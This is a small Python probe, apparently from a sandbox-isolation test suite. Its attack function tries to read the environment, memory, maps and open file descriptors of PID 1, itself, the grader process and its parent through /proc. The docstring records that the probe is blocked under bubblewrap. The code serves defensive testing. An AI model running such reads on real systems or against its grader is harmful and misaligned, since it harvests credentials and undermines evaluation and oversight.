"""Read the memory, environment and open files of processes from /proc.

Stopped by: no such file
Ends: ran
Gives: []
Without bubblewrap: does not hold
"""

import os

FILES = "environ mem maps cmdline root cwd fd/0 fd/3".split()


def attack(facts):
    found = []
    for process in (1, "self", facts["grader"], os.getppid()):
        for name in FILES:
            try:
                with open(f"/proc/{process}/{name}", "rb") as file:
                    found.append([f"{process}/{name}", repr(file.read(10_000))])
            except OSError:
                continue
    return found
